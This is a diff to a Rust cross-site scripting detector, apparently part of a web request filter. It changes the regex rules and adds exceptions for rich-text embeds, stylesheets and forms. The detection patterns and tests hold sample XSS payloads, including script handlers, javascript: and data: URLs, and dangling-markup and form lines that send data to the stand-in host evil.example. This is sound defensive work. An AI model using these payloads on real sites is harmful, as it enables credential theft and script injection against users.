@@ -1,13 +1,15 @@
 //! Cross-site scripting (CWE-79; OWASP WSTG-INPV-01, XSS Filter Evasion Cheat Sheet): markup and script that a browser would run.
 //!
 //! Markup as such is no attack: editors send it. What counts is what runs script: elements, handlers, URLs, styles that load code;
-//! and script that leaves a string or an attribute it was put in.
+//! and script that leaves a string or an attribute it was put in. In rich text, players and maps of services that everybody embeds are
+//! none of it.
 
 use super::{
-    BuildError, Detector, Family, Finding, Marks, Rule, RuleSet, Value,
+    BuildError, Detector, Family, Finding, Marks, Rule, RuleSet, Value, embed,
     lexicon::Lexicon,
     rules::{always, short},
 };
+use crate::model::places::{NameHints, Part};
 
 /// Script needs markup, a call, a member or a scheme.
 const MARKS: Marks = Marks::ANGLE
@@ -37,7 +39,21 @@ pub(super) const RULES: &[Rule] = &[
     ),
     short(
         "active-element",
-        r"<[\s/]*(?:iframe|frame|frameset|object|embed|applet|base\s|meta\s+http|xml\s|xml>|xml:|xss|import|isindex|bgsound|layer|ilayer|keygen|portal|noscript|listing|plaintext|xmp|comment|v:\w|vmlframe|set\s|animate\w*|handler|foreignobject|feimage|use\s|marquee|\?import|\?xml:|xsl:|event-source|details\s+open|param\s|image\s|videos?\s+src|audio\s+src)|<\s*(?:svg|math)(?:[/>]|\s*$|\s+on)",
+        r"<[\s/]*(?:frame|frameset|applet|base\s|meta\s+http|xml\s|xml>|xml:|xss|import|isindex|bgsound|layer|ilayer|keygen|portal|noscript|listing|plaintext|xmp|comment|v:\w|vmlframe|set\s|animate\w*|handler|foreignobject|feimage|use\s|marquee|\?import|\?xml:|xsl:|event-source|details\s+open|param\s|image\s)|<\s*(?:svg|math)(?:[/>]|\s*$|\s+on)",
+    ),
+    // what rich text embeds
+    short(
+        "embedded",
+        r"<[\s/]*(?:iframe|object|embed)|<[\s/]*(?:videos?|audio)\s+src",
+    ),
+    // markup without script that sends away what the page holds, or what is entered (dangling markup, foreign forms)
+    short(
+        "form",
+        r#"<\s*(?:form|button|input|textarea|select|isindex)\b[^>]*\s(?:form)?action\s*=\s*["'`]?\s*(?:(?:https?:)?[\\/]{2}|data:)|<\s*(?:button|input|textarea|select|output|fieldset)\b[^>]*\sform\s*="#,
+    ),
+    short(
+        "unclosed",
+        r#"<\s*(?:img|image|video|audio|source|link|input)\b[^>]*\s(?:src|href|srcset|poster)\s*=\s*["'`]?\s*(?:https?:)?[\\/]{2}[^>]*$"#,
     ),
     always(
         "frame",
@@ -49,8 +65,9 @@ pub(super) const RULES: &[Rule] = &[
     ),
     short(
         "link",
-        r#"<[\s/]*link\b[^>]{0,200}(?:href\s*=\s*["']?\s*(?:javascript|data|//|[\w.]+\.js)|rel\s*=\s*["']?(?:import|stylesheet))"#,
+        r#"<[\s/]*link\b[^>]{0,200}(?:href\s*=\s*["']?\s*(?:javascript|data|//|[\w.]+\.js)|rel\s*=\s*["']?import)"#,
     ),
+    short("link-style", r#"<[\s/]*link\b[^>]{0,200}rel\s*=\s*["']?stylesheet"#),
     short(
         "source",
         r#"<\s*(?:img|image|input|video|audio|source|body|table|td|bgsound)\b[^>]{0,120}(?:\b(?:dyn|low)?src|background|poster)\s*=\s*["'`]?\s*(?:x\b|#|javascript|vbscript|data:text|&|livescript|mocha|`|>|1\b|\.\s)"#,
@@ -58,11 +75,11 @@ pub(super) const RULES: &[Rule] = &[
     // URLs that run
     always(
         "scheme",
-        r#"(?:^|["'=(\s/,;`])(?:java|vb|live)\s*script\s*:(?:[^\s"'<>]{3,}|\s*\w*\s*[(.=`\[])|(?:j\s*a\s*v\s*a|v\s*b)\s*s\s*c\s*r\s*i\s*p\s*t\s*:\s*(?:[a-z_$(\[/%'"!~+`&\\-][^\s])?[^\n]{0,200}[(=`\[{]|script:\s*(?:con|alert|eval)|mocha:\["#,
+        r#"(?:^|["'=(\s/,;`])(?:java|vb|live)\s*script\s*:(?:[^\s"'<>]{3,}|\s*\w*\s*[(.=`\[])|(?:j\s*a\s*v\s*a|v\s*b)\s*s\s*c\s*r\s*i\s*p\s*t\s*:\s*(?:[a-z_$(\[/%'"!~+`&\\-][^\s])?[^\n]{0,200}[(=`\[{]|script:\s*(?:con|alert|eval)|mocha:\[|\b(?:href|src|action|formaction)\s*=\s*["'`]?\s*javascript\s*:\s*[\w$(\[{'"`+!~/-]"#,
     ),
     always(
         "data-url",
-        r"data:\s*(?:text/html|application/xhtml|text/xml|text/javascript|[^,\s]{0,30};base64,\s*PHN)|data:\s*,\s*<",
+        r"data:\s*(?:(?:text/html|application/xhtml|text/xml|text/javascript|application/javascript)[^,\s]{0,60}\s?(?:,|;\s?base64|$)|[^,\s]{0,30};base64,\s*PHN)|data:\s*,\s*<",
     ),
     // script in an attribute or a string that it leaves
     short(
@@ -105,6 +122,14 @@ pub(super) const RULES: &[Rule] = &[
     ),
 ];
 
+/// Names of fields that editors send markup in.
+const RICH: NameHints = NameHints::HTML.and(NameHints::TEMPLATE);
+
+/// Whether a value came where an editor sends its text.
+fn is_rich_text(value: &Value<'_>, names: NameHints) -> bool {
+    value.place.part == Part::Body && value.place.hints().any(names)
+}
+
 /// Finds cross-site scripting.
 pub(super) struct Xss {
     rules: RuleSet,
@@ -128,17 +153,22 @@ impl Detector for Xss {
     }
 
     fn look(&self, value: &Value<'_>) -> Option<Finding> {
-        if value.is_entered() {
-            self.rules.judge(value)
-        } else {
-            None
+        if !value.is_entered() {
+            return None;
         }
+        self.rules.judge_by(value, |rule| match rule.name {
+            "embedded" => !(is_rich_text(value, RICH.and(NameHints::TEXT)) && embed::is_of_known_providers(value.text)),
+            "link-style" | "form" => !is_rich_text(value, RICH),
+            "script-element" => !embed::runs_nothing(value.text),
+            _ => true,
+        })
     }
 }
 
 #[cfg(test)]
 mod tests {
-    use super::super::tests::{assert_finds, assert_passes};
+    use super::super::tests::{assert_finds, assert_passes, find_as, find_in_query};
+    use crate::model::places::Role;
 
     #[test]
     fn scripts_are_found() {
@@ -164,8 +194,45 @@ mod tests {
                 "\\u003cscript\\u003ealert(1)",
                 "<details open ontoggle=alert(1)>",
                 "<object data=\"javascript:alert(1)\">",
+                "<iframe src=\"https://www.youtube.com/embed/x\">",
+                "<a href=javas&#99;ript:1>x",
+                "<img src=//evil.example/?",
+                "<img src='https://evil.example/?x=",
+                "<form id=x></form><button form=x formaction=//evil.example>",
+                "<form action=\"https://evil.example/\"><input name=password>",
+                "<textarea form=x>",
+                "<script type=module>import x from '//evil.example/x.js'</script>",
+                "data:text/html,<b>x",
+                "data:text/html;charset=utf-8,x",
             ],
         );
+    }
+
+    #[test]
+    fn rich_text_may_embed_what_everybody_does() {
+        let of = |name: &str, text: &str| find_as(Role::Value, name, text).map(|(family, _)| family);
+        let player = r#"<p>Song:</p><iframe style="border-radius:12px" src="https://open.spotify.com/embed/track/1" width="100%"></iframe>"#;
+        for name in ["html", "body", "content", "post_content", "description"] {
+            assert_eq!(of(name, player), None, "{name}");
+            let foreign = player.replace("open.spotify.com", "evil.example");
+            assert_eq!(of(name, &foreign), Some("xss"), "{name}");
+        }
+        assert_eq!(of("name", player), Some("xss"));
+        assert_eq!(find_in_query("html", player).unwrap().0, "xss");
+        let active = player.replace("<p>", "<p onclick=alert(1)>");
+        assert_eq!(of("html", &active), Some("xss"));
+        let style = r#"<link rel="stylesheet" href="../../../assets/site.css"><p>Hi</p>"#;
+        assert_eq!(of("html", style), None);
+        assert_eq!(of("name", style), Some("xss"));
+        let component = "<script setup>\nimport Price from '../../../components/Price.vue'\n</script>";
+        assert_eq!(of("content", component), None);
+        assert_eq!(
+            of("content", "<script setup>\nfetch('//evil.example')\n</script>"),
+            Some("xss")
+        );
+        let form = r#"<form action="https://list-manage.example.com/subscribe"><input name="EMAIL"></form>"#;
+        assert_eq!(of("html", form), None);
+        assert_eq!(of("nickname", form), Some("xss"));
     }
 
     #[test]
@@ -173,6 +240,11 @@ mod tests {
         assert_passes(&[
             "JavaScript: The Good Parts",
             "javascript: URLs are deprecated",
+            "data: text/html; charset=utf-8 is our default",
+            "data:text/html is a media type",
+            "metadata: text/xml or json?",
+            "<a href=\"javascript:;\">menu</a>",
+            "<form action=\"/search\"><input name=\"q\"></form>",
             "<script> tags are stripped by our editor",
             "How do I use onclick= in React?",
             "<p>Hello <b>world</b>, see <a href=\"https://example.com/\">this</a></p>",
